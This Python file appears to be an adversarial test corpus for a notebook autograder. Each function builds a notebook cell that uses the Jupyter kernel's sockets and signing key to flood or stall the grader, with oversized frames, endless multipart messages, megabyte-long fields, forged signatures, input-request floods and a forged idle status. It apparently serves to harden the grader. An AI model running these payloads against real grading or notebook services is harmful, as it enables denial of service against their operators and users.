"""Messages of a kernel to the grader, costly in every part but the one that is counted.

Student code has the kernel's sockets and its key: whatever it sends, the grader receives.
Each stands in a cell of its own before the third exercise of a right notebook.
"""

from __future__ import annotations

from nbformat.notebooknode import NotebookNode

from trial.attacks.corpus.bombs import bomb
from trial.attacks.corpus.desk import Desk, attack, everything

# how a kernel talks: to all who listen (`publish`), or to the one who asked (`reply`)
TALK = """
import os, time
shell = get_ipython()
kernel = shell.kernel
session, parent = kernel.session, kernel.get_parent("shell")
ident = kernel._parent_ident["shell"]
ident = ident[0] if isinstance(ident, list) else ident
public = shell.display_pub.pub_socket
LARGE = 24 << 20  # less than a message may have
def made(kind, content=None, metadata=None, to=b"x"):
    message = session.msg(kind, content or {}, parent=parent, metadata=metadata)
    return session.serialize(message, to)
sent = []
def publish(parts):
    public.send_multipart(parts, copy=False)
    time.sleep(0.02)  # so that it is received and not dropped
    done()
CHANNELS = {"shell": kernel.shell_stream, "control": kernel.control_stream}
def reply(channel, parts):
    if channel == "stdin":
        kernel.stdin_socket.send_multipart(parts)
    else:
        stream = CHANNELS[channel]
        stream.io_loop.add_callback(stream.socket.send_multipart, parts)
    time.sleep(0.02)
    done()
def done():
    if not sent:
        print("REACHED: sent to the grader", flush=True)
    sent.append(1)
"""


def talk(desk: Desk, source: str) -> NotebookNode:
    """A right notebook with a cell that talks to the grader."""
    return bomb(desk, TALK + source)


@attack(*everything())
def frames_without_number(desk: Desk) -> NotebookNode:
    """A message of a million empty frames: each has no byte, and each is kept."""
    return talk(
        desk,
        """
import zmq
def many():
    socket = public.io_thread.socket
    for part in made("stream", {"name": "stdout", "text": "x"}):
        socket.send(part, zmq.SNDMORE)
    for _ in range(1_000_000):
        socket.send(b"", zmq.SNDMORE)
    socket.send(b"")
done()
public.io_thread.schedule(many)
time.sleep(30)
""",
    )


@attack(*everything())
def message_that_never_ends(desk: Desk) -> NotebookNode:
    """Frame after frame of one message, whose last one never comes."""
    return talk(
        desk,
        """
import zmq
block = bytes(8 << 20)
def endless():
    socket = public.io_thread.socket
    for part in made("stream", {"name": "stdout", "text": "x"}):
        socket.send(part, zmq.SNDMORE)
    for _ in range(250):
        socket.send(block, zmq.SNDMORE, copy=False)
done()
public.io_thread.schedule(endless)
time.sleep(20)
""",
    )


@attack(*everything())
def names_of_megabytes(desk: Desk) -> NotebookNode:
    """Streams whose text is short and whose name is not."""
    return talk(
        desk,
        """
for i in range(60):
    publish(made("stream", {"name": "x" * LARGE, "text": "y"}))
""",
    )


@attack(*everything())
def values_of_errors_of_megabytes(desk: Desk) -> NotebookNode:
    """Errors whose traceback is short, and whose name and value are not."""
    return talk(
        desk,
        """
for i in range(60):
    publish(made("error", {"ename": "x" * (LARGE // 2), "evalue": "y" * (LARGE // 2),
                           "traceback": ["z"]}))
""",
    )


@attack(*everything())
def metadata_of_megabytes(desk: Desk) -> NotebookNode:
    """Results without content, and with settings of megabytes."""
    return talk(
        desk,
        """
for i in range(60):
    publish(made("display_data", {"data": {"text/plain": ""}, "metadata": {"x": "y" * LARGE}}))
""",
    )


@attack(*everything())
def kinds_of_results_of_megabytes(desk: Desk) -> NotebookNode:
    """Results of no content, the name of whose kind is megabytes long."""
    return talk(
        desk,
        """
for i in range(60):
    publish(made("display_data", {"data": {"x" * LARGE: ""}, "metadata": {}}))
""",
    )


@attack(*everything())
def content_that_unpacks(desk: Desk) -> NotebookNode:
    """Millions of empty lists in one message: three bytes each, and sixty when it is read."""
    return talk(
        desk,
        """
import json
for i in range(4):
    parts = made("stream", {})
    parts[-1] = b'{"name":"stdout","text":"x","y":[' + b"[]," * (LARGE // 3) + b"[]]}"
    parts[2] = session.sign(parts[3:7])
    publish(parts)
time.sleep(3)
""",
    )


@attack(*everything())
def signatures_that_are_remembered(desk: Desk) -> NotebookNode:
    """Signatures of megabytes, none of them right: whoever looks for repetitions keeps them."""
    return talk(
        desk,
        """
import os
for i in range(60):
    parts = made("stream", {"name": "stdout", "text": "x"})
    parts[2] = os.urandom(32) + bytes(LARGE)
    publish(parts)
""",
    )


@attack(*everything())
def replies_that_nobody_reads(desk: Desk) -> NotebookNode:
    """Replies to no question, on the channels on which the grader waits for none."""
    return talk(
        desk,
        """
for i in range(16):
    for channel in ("shell", "control", "stdin"):
        reply(channel, made("x_reply", {"x": "y" * LARGE}, to=ident))
time.sleep(1)
""",
    )


@attack(*everything())
def requests_for_input(desk: Desk) -> NotebookNode:
    """Asks the grader for input, by the thousand, though it said that it gives none."""
    return talk(
        desk,
        """
for i in range(100_000):
    kernel.stdin_socket.send_multipart(
        made("input_request", {"prompt": "password: ", "password": True}, to=ident))
    done()
""",
    )


@attack(*everything())
def flood_on_every_channel(desk: Desk) -> NotebookNode:
    """Small messages for ever, of kinds that are no output: widgets, updates, statuses, replies."""
    return talk(
        desk,
        """
kinds = ("comm_open", "comm_msg", "comm_close", "clear_output", "update_display_data",
         "execute_input", "status", "x" * 100)
ready = [made(k, {"comm_id": "x", "data": {}, "wait": True, "execution_state": "busy",
                  "transient": {"display_id": "x"}, "metadata": {}}) for k in kinds]
done()
end = time.monotonic() + 60
while time.monotonic() < end:
    for parts in ready:
        public.send_multipart(parts)
    for channel in CHANNELS:
        stream = CHANNELS[channel]
        stream.io_loop.add_callback(stream.socket.send_multipart, made("x_reply", {}, to=ident))
""",
    )


@attack(*everything())
def outputs_that_are_replaced(desk: Desk) -> NotebookNode:
    """Clears its output and shows another, again and again: what is kept has no bound in time."""
    return talk(
        desk,
        """
from IPython.display import clear_output, display
shown = display("x", display_id="x")
done()
for i in range(3000):
    clear_output(wait=i % 2)
    shown.update("y" * 1000)
    display("z" * 1000, display_id=f"x{i}")
""",
    )


@attack(*everything())
def forged_idle_status(desk: Desk) -> NotebookNode:
    """Says that its cell is done while it still runs: the next one has to wait for it."""
    return talk(
        desk,
        """
publish(made("status", {"execution_state": "idle"}))
time.sleep(3)
""",
    )
